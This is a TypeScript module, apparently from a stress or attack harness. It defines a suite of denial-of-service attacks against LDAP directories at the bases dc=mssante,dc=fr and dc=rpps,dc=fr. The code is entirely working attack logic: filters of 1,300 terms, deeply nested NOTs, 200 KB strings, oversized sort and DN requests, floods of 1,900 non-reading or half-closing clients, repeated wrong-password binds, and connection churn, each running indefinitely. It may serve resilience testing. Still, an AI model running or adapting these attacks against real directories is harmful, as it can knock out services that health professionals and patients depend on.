import {
  abandon,
  and,
  bind,
  contains,
  control,
  equality,
  extensible,
  int,
  message,
  not,
  octets,
  or,
  present,
  search,
  starts,
  tlv,
  UNBIND,
} from '../wire/ber.js'
import { comeAndGo, crowd, forever, insist, type Target } from './hostile-crowd.js'

export interface Attack {
  readonly name: string
  /** Goes on until its process is ended. */
  run(target: Target): Promise<never>
}

const BAL = 'dc=mssante,dc=fr'
const RPPS = 'dc=rpps,dc=fr'
/** As many terms as the greatest message of an anonymous client and the greatest tree let through. */
const MOST = 1300
const SEARCH_DONE = 0x65
/** Connections over which a costly request is sent again and again. */
const HANDS = 8

const terms = (make: (at: number) => Buffer, count = MOST) => or(Array.from({ length: count }, (_, at) => make(at)))

/** A costly search, asked over and over by a few clients. */
function costly(name: string, base: string, filter: Buffer, ...controls: readonly Buffer[]): Attack {
  const bytes = message(1, search(base, 2, filter), ...controls)
  return {
    name,
    run: (target) =>
      insist(
        target,
        HANDS,
        () => bytes,
        (chunk) => chunk.includes(SEARCH_DONE),
      ),
  }
}

const sortBy = (keys: readonly string[]) =>
  control('1.2.840.113556.1.4.473', true, tlv(0x30, ...keys.map((key) => tlv(0x30, octets(key)))))
const listView = (before: number, after: number, offset: number) =>
  control('2.16.840.1.113730.3.4.9', true, tlv(0x30, int(before), int(after), tlv(0xa0, int(offset), int(0))))

const WIDE = or([starts('sn', 'mar'), starts('cn', 'mar'), starts('mail', 'mar')])
const wide = (id: number) => message(id, search(BAL, 2, WIDE))

function deepNot(depth: number): Buffer {
  let filter = equality('st', 'x')
  for (let level = 0; level < depth; level++) filter = not(filter)
  return filter
}

export const LDAP_ATTACKS: readonly Attack[] = [
  costly(
    'OU de 1 300 (:caseIgnoreMatch:=…)',
    BAL,
    terms((at) => extensible('caseIgnoreMatch', null, `zq${at}`)),
  ),
  costly(
    'le même, dc=rpps',
    RPPS,
    terms((at) => extensible('caseIgnoreMatch', null, `zq${at}`)),
  ),
  costly(
    'OU de 1 300 (st=…)',
    BAL,
    terms((at) => equality('st', `zq${at}`)),
  ),
  costly(
    'OU de 1 300 (cn=…)',
    BAL,
    terms((at) => equality('cn', `zq${at}`)),
  ),
  costly(
    'OU de 1 300 (cn=*…*)',
    BAL,
    terms((at) => contains('cn', `zq${at}`)),
  ),
  costly(
    'OU de 1 300 fragments courants',
    BAL,
    terms((at) => contains('cn', ['mar', 'ber', 'ois', 'ent'][at % 4]!)),
  ),
  costly(
    'OU de 1 300 (st>=…)',
    BAL,
    terms((at) => equality('st', `zzq${at}`, 0xa5)),
  ),
  costly('ET de 1 300 NON', BAL, and(Array.from({ length: MOST }, (_, at) => not(equality('st', `zq${at}`))))),
  costly('NON sur 90 niveaux', BAL, deepNot(90)),
  costly('(!(cn=*)) et présences', BAL, and(Array.from({ length: MOST }, () => not(present('c'))))),
  costly('200 000 espaces dans (l=…)', BAL, equality('l', `a${' '.repeat(200_000)}b`)),
  costly('200 Ko de « é » dans (cn=…)', BAL, equality('cn', 'é'.repeat(100_000))),
  costly('fragment de 200 Ko', BAL, contains('cn', 'ab'.repeat(100_000))),
  costly(
    'OU de 1 000 adresses connues de personne',
    BAL,
    terms((at) => equality('mail', `zq${at}@x.mssante.fr`), 1000),
  ),
  costly('1 300 clés de tri', BAL, WIDE, sortBy(Array.from({ length: MOST }, () => 'cn'))),
  costly(
    'tri et liste virtuelle',
    BAL,
    WIDE,
    sortBy(['-sn', 'l', 'title'].map((key) => key.replace('-', ''))),
    listView(0xffff, 0xffff, 500),
  ),
  {
    name: 'base de 40 000 parties',
    run: (target) => {
      const bytes = message(1, search(`${'a=b,'.repeat(40_000)}dc=fr`, 2, present('cn')))
      return insist(
        target,
        HANDS,
        () => bytes,
        (chunk) => chunk.includes(SEARCH_DONE),
      )
    },
  },
  costly('entryDN de 40 000 parties', BAL, equality('entryDN', `${'a=b,'.repeat(40_000)}dc=fr`)),
  {
    name: '10 000 attributs demandés',
    run: (target) => {
      const names = Array.from({ length: 10_000 }, (_, at) => `attribut${at}`)
      const bytes = message(1, search(BAL, 2, WIDE, names))
      return insist(
        target,
        HANDS,
        () => bytes,
        (chunk) => chunk.includes(SEARCH_DONE),
      )
    },
  },
  {
    name: '50 clients × 100 recherches larges, lues',
    run: (target) => {
      const bytes = Buffer.concat(Array.from({ length: 100 }, (_, at) => wide(at + 1)))
      return insist(
        target,
        50,
        () => bytes,
        (chunk) => chunk.includes(Buffer.from([2, 1, 100, SEARCH_DONE])),
      )
    },
  },
  {
    name: '1 900 clients qui ne lisent pas',
    async run(target) {
      for (const socket of await crowd(target, 1900)) {
        socket.pause()
        socket.write(Buffer.concat(Array.from({ length: 10 }, (_, at) => wide(at + 1))))
      }
      return forever()
    },
  },
  {
    name: '1 900 clients muets, qui partent à moitié',
    async run(target) {
      for (const socket of await crowd(target, 1900)) socket.end(wide(1))
      return forever()
    },
  },
  {
    name: 'mauvais mots de passe sur 60 connexions',
    run: (target) => {
      let at = 0
      const guess = () => message(1, bind(`cn=compte${at++ % 7},ou=comptes,${BAL}`, `faux${at}`))
      return insist(target, 60, guess, () => true)
    },
  },
  {
    name: 'abandons et départs en rafale',
    run: (target) => {
      const bytes = Buffer.concat([
        ...Array.from({ length: 5000 }, (_, at) => message((at % 100) + 1, abandon(at % 100))),
        message(1, UNBIND),
      ])
      return comeAndGo(target, 4, bytes)
    },
  },
  { name: 'connexions ouvertes et fermées sans un mot', run: (target) => comeAndGo(target, 50, Buffer.alloc(0)) },
  { name: 'recherches abandonnées par le départ', run: (target) => comeAndGo(target, 50, wide(1)) },
]
